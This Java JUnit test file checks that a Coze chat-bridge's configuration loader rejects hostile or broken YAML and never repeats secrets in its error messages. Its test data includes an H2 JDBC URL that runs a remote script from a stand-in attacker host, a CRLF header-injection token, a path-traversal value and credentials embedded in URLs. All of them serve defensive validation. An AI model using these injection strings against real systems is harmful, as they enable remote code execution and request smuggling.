package dev.cozebridge.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile or broken configuration: every case is one problem with its YAML path (exit 2 through {@code check}),
 * and no secret or credential is ever repeated in a message.
 */
class ConfigHostileInputTest {
    private static final Map<String, String> ENV = Map.of(
            "COZE_API_TOKEN", "pat_secret_value",
            "DISCORD_BOT_TOKEN", "discord-secret",
            "TELEGRAM_BOT_TOKEN", "123:telegram-secret",
            "BRIDGE_API_KEYS", "k1, k2,,");

    private final ConfigLoader loader = new ConfigLoader(ENV::get);

    private BridgeConfig load(String yaml) throws ConfigException {
        return loader.load(Path.of("bots.yml"), new StringReader(yaml));
    }

    private ConfigException problems(String yaml) {
        return catchThrowableOfType(ConfigException.class, () -> load(yaml));
    }

    @Test
    void overflowingNumbersAndDurationsAreProblemsWithTheirPath() {
        ConfigException e = problems("""
                coze:
                  token_env: COZE_API_TOKEN
                  first_event_timeout: 99999999999999999999s
                  idle_timeout: 9223372036854775807h
                  total_timeout: 25h
                  connect_timeout: 86400001ms
                  max_retries: 99999999999999999999
                bots:
                  - name: a
                    coze: {bot_id: "1"}
                    history: {max_turns: -99999999999}
                """);
        assertThat(e.problems())
                .containsExactlyInAnyOrder(
                        "coze.first_event_timeout: must be at most 24h, not '99999999999999999999s'",
                        "coze.idle_timeout: must be at most 24h, not '9223372036854775807h'",
                        "coze.total_timeout: must be at most 24h, not '25h'",
                        "coze.connect_timeout: must be at most 24h, not '86400001ms'",
                        "coze.max_retries: must be between 0 and 10, not 99999999999999999999",
                        "bots[0].history.max_turns: must be between 1 and 100, not -99999999999");
    }

    @Test
    void credentialsInAnyUrlAreRefusedAndNeverRepeated() {
        ConfigException e = problems("""
                coze:
                  token_env: COZE_API_TOKEN
                  base_url: http://user:hunter2@api.coze.com
                bots:
                  - name: a
                    coze: {bot_id: "1", base_url: "https://admin:s3cr3t@ bad host"}
                    discord: {token_env: DISCORD_BOT_TOKEN, api_url: "https://bot:tok3n@discord.com/api/v10/",
                              gateway_url: "wss://only-user@gateway.discord.gg/"}
                    telegram: {token_env: TELEGRAM_BOT_TOKEN, api_url: "http://x:pw%40d@127.0.0.1:8081"}
                """);
        String refusal = "must not contain a user name or password (user:password@host); it is not repeated here";
        assertThat(e.problems())
                .containsExactlyInAnyOrder(
                        "coze.base_url: " + refusal,
                        "bots[0].coze.base_url: " + refusal,
                        "bots[0].discord.api_url: " + refusal,
                        "bots[0].discord.gateway_url: " + refusal,
                        "bots[0].telegram.api_url: " + refusal);
        assertThat(e.getMessage())
                .doesNotContain("hunter2")
                .doesNotContain("s3cr3t")
                .doesNotContain("tok3n")
                .doesNotContain("only-user")
                .doesNotContain("pw%40d");
    }

    @Test
    void secretsThatCannotGoInAHeaderAreRefusedNamingOnlyTheVariable() {
        Map<String, String> env = Map.of(
                "COZE_API_TOKEN", "pat_line\r\nX-Injected: 1",
                "DISCORD_BOT_TOKEN", "discord token with spaces",
                "TELEGRAM_BOT_TOKEN", "123:abc/../../evil",
                "BRIDGE_API_KEYS", "good-key,clé-secrète");
        ConfigException e = catchThrowableOfType(
                ConfigException.class,
                () -> new ConfigLoader(env::get).load(Path.of("bots.yml"), new StringReader("""
                        http: {api_keys_env: BRIDGE_API_KEYS}
                        bots:
                          - name: a
                            coze: {bot_id: "1", token_env: COZE_API_TOKEN}
                            discord: {token_env: DISCORD_BOT_TOKEN}
                            telegram: {token_env: TELEGRAM_BOT_TOKEN}
                        """)));
        String header = "holds a line break, space, control or non-ASCII character, which cannot be sent in an "
                + "HTTP header; set it to ";
        assertThat(e.problems())
                .containsExactlyInAnyOrder(
                        "http.api_keys_env: environment variable BRIDGE_API_KEYS " + header
                                + "the comma-separated keys alone",
                        "bots[0].coze.token_env: environment variable COZE_API_TOKEN " + header + "the token alone",
                        "bots[0].discord.token_env: environment variable DISCORD_BOT_TOKEN " + header
                                + "the token alone",
                        "bots[0].telegram.token_env: environment variable TELEGRAM_BOT_TOKEN does not hold a "
                                + "BotFather token (digits, a colon, then letters, digits, _ or -)");
        assertThat(e.getMessage())
                .doesNotContain("pat_line")
                .doesNotContain("with spaces")
                .doesNotContain("evil")
                .doesNotContain("secrète");

        // The default variable, read when no token_env is set, is held to the same rule.
        ConfigException byDefault = catchThrowableOfType(
                ConfigException.class,
                () -> new ConfigLoader(Map.of("COZE_API_TOKEN", "pät")::get)
                        .load(Path.of("bots.yml"), new StringReader("bots: [{name: a, coze: {bot_id: '1'}}]\n")));
        assertThat(byDefault.problems())
                .containsExactly("bots[0].coze: environment variable COZE_API_TOKEN " + header + "the token alone");
    }

    @Test
    void apiKeysEnvMustHoldAKey() {
        ConfigException e = catchThrowableOfType(
                ConfigException.class,
                () -> new ConfigLoader(Map.of("BRIDGE_API_KEYS", ",,, ,")::get)
                        .load(Path.of("bots.yml"), new StringReader("""
                                coze: {token_env: BRIDGE_API_KEYS}
                                http: {api_keys_env: BRIDGE_API_KEYS}
                                bots: [{name: a, coze: {bot_id: '1'}}]
                                """)));
        assertThat(e.problems())
                .contains("http.api_keys_env: environment variable BRIDGE_API_KEYS holds no key; put one or more "
                        + "keys in it, separated by commas");
    }

    @Test
    void aSecondYamlDocumentIsRefused() throws Exception {
        assertThat(problems("""
                        bots: [{name: a, coze: {bot_id: '1'}}]
                        ---
                        http: {api_keys_env: BRIDGE_API_KEYS}
                        """).problems())
                .containsExactly("line 3: this is a second YAML document (after '---'); keep the whole "
                        + "configuration in one document");
        // A single document may still open with '---' and close with '...'.
        assertThat(load("---\nbots: [{name: a, coze: {bot_id: '1'}}]\n...\n").bots())
                .hasSize(1);
    }

    @Test
    void databaseUrlTakesOnlyTheDocumentedH2Settings() throws Exception {
        assertThat(load("""
                        database: {url: "jdbc:h2:file:./data/x;CACHE_SIZE=8192;LOCK_TIMEOUT=5000;DB_CLOSE_DELAY=-1"}
                        bots: [{name: a, coze: {bot_id: '1'}}]
                        """).database().url())
                // the settings kept as written; the relative path made absolute in the config file's folder
                .isEqualTo("jdbc:h2:file:" + Path.of("data/x").toAbsolutePath()
                        + ";CACHE_SIZE=8192;LOCK_TIMEOUT=5000;DB_CLOSE_DELAY=-1");
        Map<String, String> refused = Map.of(
                "jdbc:h2:file:./x;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'",
                        "the H2 setting INIT is not allowed; the bridge takes only CACHE_SIZE, DB_CLOSE_DELAY, "
                                + "DB_CLOSE_ON_EXIT, LOCK_TIMEOUT, MAX_COMPACT_TIME, TRACE_LEVEL_FILE, WRITE_DELAY",
                "jdbc:h2:./x;AUTO_SERVER=TRUE", "the H2 setting AUTO_SERVER is not allowed",
                "jdbc:h2:./x;FILE_LOCK=NO", "the H2 setting FILE_LOCK is not allowed",
                "jdbc:h2:./x;PASSWORD=hunter2", "the H2 setting PASSWORD is not allowed",
                "jdbc:h2:./x;CACHE_SIZE=1;CACHE_SIZE=2", "it sets CACHE_SIZE twice",
                "jdbc:h2:./x;LOCK_TIMEOUT=1 OR 1", "the H2 setting LOCK_TIMEOUT must be a whole number",
                "jdbc:h2:tcp://localhost/x", "use an embedded file (jdbc:h2:file:PATH) or in-memory",
                "jdbc:h2:mem:", "an in-memory database needs a name",
                "jdbc:mysql://db/bridge?password=hunter2", "use an H2 file");
        refused.forEach((url, message) -> {
            ConfigException e = problems("database: {url: \"" + url + "\"}\nbots: [{name: a, coze: {bot_id: '1'}}]\n");
            assertThat(e.problems()).singleElement().asString().startsWith("database.url: " + message);
            assertThat(e.getMessage()).doesNotContain("attacker").doesNotContain("hunter2");
        });
    }

    @Test
    void aFileThatIsNotUtf8SaysWhereAndHowToFixIt(@TempDir Path dir) throws Exception {
        Path latin1 = dir.resolve("latin1.yml");
        Files.write(
                latin1,
                "bots:\n  - name: a\n    coze: {bot_id: '1', custom_variables: {company: Caf\u00e9}}\n"
                        .getBytes(StandardCharsets.ISO_8859_1));
        assertThat(catchThrowableOfType(ConfigException.class, () -> loader.load(latin1))
                        .problems())
                .containsExactly("line 3, column 56: byte 0xE9 is not UTF-8 text (was the file saved as Latin-1 or "
                        + "GBK?); save it as UTF-8");

        Path utf16 = dir.resolve("utf16.yml");
        Files.writeString(utf16, "\uFEFFbots: []\n", StandardCharsets.UTF_16LE);
        assertThat(catchThrowableOfType(ConfigException.class, () -> loader.load(utf16))
                        .problems())
                .containsExactly("the file is UTF-16, not UTF-8; save it as UTF-8");

        // UTF-8 with a byte-order mark and non-ASCII text is fine.
        Path bom = dir.resolve("bom.yml");
        Files.writeString(bom, "\uFEFFbots:\n  - name: a\n    coze: {bot_id: '1', custom_variables: {company: 咖啡馆}}\n");
        assertThat(loader.load(bom).bots().getFirst().customVariables()).containsEntry("company", "咖啡馆");
    }

    @Test
    void readsThePerKeyLimitsAndTheCozeShareOfTheApi() throws Exception {
        HttpSettings http = load("""
                        http: {api_keys_env: BRIDGE_API_KEYS, max_concurrent_per_key: 3, requests_per_minute_per_key: 30,
                               coze_share: 0.25}
                        bots: [{name: a, coze: {bot_id: '1'}}]
                        """).http();
        assertThat(http.maxConcurrentPerKey()).isEqualTo(3);
        assertThat(http.requestsPerMinutePerKey()).isEqualTo(30);
        assertThat(http.cozeShare()).isEqualTo(0.25);
        HttpSettings defaults = load("""
                        http: {api_keys_env: BRIDGE_API_KEYS}
                        bots: [{name: a, coze: {bot_id: '1'}}]
                        """).http();
        assertThat(defaults.maxConcurrentPerKey()).isEqualTo(HttpSettings.DEFAULT_MAX_CONCURRENT_PER_KEY);
        assertThat(defaults.requestsPerMinutePerKey()).isEqualTo(HttpSettings.DEFAULT_REQUESTS_PER_MINUTE_PER_KEY);
        assertThat(defaults.cozeShare()).isEqualTo(HttpSettings.DEFAULT_COZE_SHARE);
        assertThat(problems("""
                        http: {api_keys_env: BRIDGE_API_KEYS, max_concurrent_per_key: 0, coze_share: 1}
                        bots: [{name: a, coze: {bot_id: '1'}}]
                        """).problems())
                .containsExactlyInAnyOrder(
                        "http.max_concurrent_per_key: must be between 1 and 10000, not 0",
                        "http.coze_share: must be less than 1 (platform users keep the rest), not 1.0");
    }
}
